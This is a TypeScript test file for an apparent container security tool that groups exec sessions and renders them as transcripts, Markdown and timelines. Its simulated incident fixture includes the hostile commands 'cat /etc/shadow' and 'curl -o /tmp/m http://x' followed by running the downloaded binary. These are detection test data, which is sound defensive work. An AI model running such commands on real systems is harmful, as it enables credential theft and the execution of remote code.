import { describe, expect, it } from 'vitest';
import { renderSessions, SessionLog } from './sessions.js';
import { Summary } from './summary.js';
import { MarkdownSummary } from './markdown.js';
import { Timeline } from './timeline.js';
import { podEvent, T0 } from './fixtures.test-helpers.js';
import type { AttributedEvent } from '../join/types.js';

const S = 1000;
const OTHER = 'f'.repeat(64);
/** A command in the exec session of pid `leader` (pts/0), `s` seconds into the trace. */
const typed = (
  leader: number,
  pid: number,
  s: number,
  args: string[],
  over: Partial<AttributedEvent['event']> = {},
  containerId?: string,
): AttributedEvent =>
  podEvent(
    {
      timeMs: T0 + s * S,
      pid,
      args,
      comm: args[0]!,
      filename: `/bin/${args[0]}`,
      tty: 'pts/0',
      sessionLeaderPid: leader,
      inInitTree: false,
      cwd: '/srv',
      ...over,
    },
    { entry: 'exec', workload: 'deploy/web', ...(containerId ? { containerId } : {}) },
  );

/** An incident: a shell that ran commands, a second session that dropped and ran a binary, the workload and a probe around them. */
function incident(): AttributedEvent[] {
  return [
    podEvent({ timeMs: T0, pid: 10, args: ['nginx'], sessionLeaderPid: 1, inInitTree: true }, { entry: 'init' }),
    typed(100, 100, 1, ['bash']),
    typed(100, 101, 2, ['ls', '-l']),
    podEvent({ timeMs: T0 + 3 * S, pid: 50, args: ['cat', '/tmp/healthy'], sessionLeaderPid: 50, inInitTree: false }, { entry: 'probe' }),
    typed(100, 102, 4, ['cat', '/etc/shadow']),
    typed(200, 200, 5, ['sh'], { tty: null }),
    typed(200, 201, 6, ['curl', '-o', '/tmp/m', 'http://x'], { tty: null }),
    typed(200, 202, 7, ['/tmp/m'], { tty: null, upperLayer: true }),
    typed(200, 203, 8, ['nope'], { tty: null, retval: -2 }),
  ];
}

describe('SessionLog', () => {
  it('groups the commands of each exec session in order; a session that ran drift comes first; probes and the workload are not sessions', () => {
    const log = new SessionLog();
    for (const e of incident()) log.add(e);
    const list = log.list();
    expect(list.map((s) => [s.pid, s.tty, s.drift, s.commands.map((c) => c.argv)])).toEqual([
      [200, null, true, ['sh', 'curl -o /tmp/m http://x', '/tmp/m', 'nope']],
      [100, 'pts/0', false, ['bash', 'ls -l', 'cat /etc/shadow']],
    ]);
    expect(list[0]!.commands.map((c) => [c.drift, c.error])).toEqual([
      [false, null],
      [false, null],
      [true, null],
      [false, 'ENOENT'],
    ]);
  });

  it('ends a session when its first process ends (--exits), in the same container only', () => {
    const log = new SessionLog();
    for (const e of incident()) log.add(e);
    log.ended('worker-1', OTHER, 100, T0 + 9 * S, { exitCode: 0, signal: null }); // another container's pid 100
    log.ended('worker-1', podEvent().containerId, 100, T0 + 10 * S, { exitCode: 0, signal: null });
    log.ended('worker-1', undefined, 200, T0 + 11 * S, { exitCode: null, signal: 'SIGKILL' });
    log.ended('worker-1', undefined, 101, T0 + 12 * S, { exitCode: 1, signal: null }); // a command, not a session's first process
    expect(log.list().map((s) => [s.pid, s.endMs, s.exit])).toEqual([
      [200, T0 + 11 * S, { exitCode: null, signal: 'SIGKILL' }],
      [100, T0 + 10 * S, { exitCode: 0, signal: null }],
    ]);
  });

  it('same leader pid in two containers: two sessions', () => {
    const log = new SessionLog();
    log.add(typed(100, 100, 1, ['bash']));
    log.add(typed(100, 100, 1, ['bash'], {}, OTHER));
    expect(log.size).toBe(2);
  });

  it('is bounded in sessions and commands, and counts what it leaves out', () => {
    const log = new SessionLog(1, 2);
    log.add(typed(100, 100, 1, ['bash']));
    log.add(typed(100, 101, 2, ['a']));
    log.add(typed(100, 102, 3, ['b']));
    log.add(typed(300, 300, 4, ['sh']));
    expect([log.size, log.dropped, log.list()[0]!.more]).toEqual([1, 1, 1]);
  });
});

describe('renderSessions', () => {
  it('a transcript per session', () => {
    const log = new SessionLog();
    for (const e of incident()) log.add(e);
    log.ended('worker-1', undefined, 100, T0 + 10 * S, { exitCode: 0, signal: null });
    expect(renderSessions(log.list(), 0, (l) => l)).toBe(
      [
        'Exec sessions (2; those that ran a file from the writable layer first):',
        '  default/web-7d9f8b6c5d-x2x9q nginx (deploy/web): pid 200, no terminal, uid 0; started 11:41:21, last command 11:41:24, end not traced [drift]',
        '    11:41:21  sh',
        '    11:41:22  curl -o /tmp/m http://x',
        '    11:41:23  [drift] /tmp/m',
        '    11:41:24  nope  (ENOENT)',
        '  default/web-7d9f8b6c5d-x2x9q nginx (deploy/web): pid 100, pts/0, uid 0; started 11:41:17, ended 11:41:26, exit 0',
        '    11:41:17  bash',
        '    11:41:18  ls -l',
        '    11:41:20  cat /etc/shadow',
      ].join('\n'),
    );
  });
});

describe('sessions in the summary, the Markdown summary and the timeline', () => {
  it('-o summary ends with the transcripts; nothing when there was no session', () => {
    const sum = new Summary();
    for (const e of incident()) sum.add(e);
    const text = sum.render();
    expect(text).toContain('Exec sessions (2;');
    expect(text.indexOf('pid 200')).toBeLessThan(text.indexOf('pid 100'));
    const quiet = new Summary();
    quiet.add(incident()[0]!);
    expect(quiet.render()).not.toContain('Exec sessions');
  });

  it('on a terminal every transcript line fits', () => {
    const sum = new Summary();
    for (const e of incident()) sum.add(e);
    for (const line of sum.render(80).split('\n')) expect([...line].length).toBeLessThanOrEqual(80);
  });

  it('Markdown: a section per session, its commands in a table', () => {
    const md = new MarkdownSummary();
    for (const e of incident()) md.add(e);
    const text = md.render();
    expect(text).toContain('### Exec sessions');
    expect(text).toMatch(
      /#### default\/web-7d9f8b6c5d-x2x9q nginx \\\(deploy\/web\\\) — ran a file not from the image\n\npid 200, no terminal, uid 0; started 11:41:21 UTC, last command 11:41:24, end not traced\./,
    );
    expect(text).toContain('| 11:41:23 | **drift** `/tmp/m` | ran | `/srv` |');
    expect(text).toContain('| 11:41:24 | `nope` | ENOENT | `/srv` |');
  });

  it('timeline: a track group per session with its span and each command', () => {
    const tl = new Timeline();
    for (const e of incident()) tl.exec(e);
    tl.exit('worker-1', 100, T0 + 10 * S, { exitCode: 0, signal: null });
    const ev = tl.render(T0 + 20 * S).traceEvents;
    const names = ev
      .filter((e) => e.name === 'process_name')
      .map((e) => e.args!.name as string)
      .filter((n) => n.startsWith('exec session'));
    expect(names).toEqual([
      'exec session default/web-7d9f8b6c5d-x2x9q nginx (deploy/web) pid 200',
      'exec session default/web-7d9f8b6c5d-x2x9q nginx (deploy/web) pid 100 pts/0',
    ]);
    const spans = ev.filter((e) => e.cat === 'session');
    expect(spans.map((e) => [e.ts, e.dur, (e.args as { exit: unknown }).exit])).toEqual([
      [(T0 + 5 * S) * 1000, 15 * S * 1000, null],
      [(T0 + 1 * S) * 1000, 9 * S * 1000, { exitCode: 0, signal: null }],
    ]);
    expect(ev.filter((e) => e.cat === 'session,command').map((e) => e.name)).toEqual([
      'sh',
      'curl -o /tmp/m http://x',
      '/tmp/m',
      'nope',
      'bash',
      'ls -l',
      'cat /etc/shadow',
    ]);
  });
});
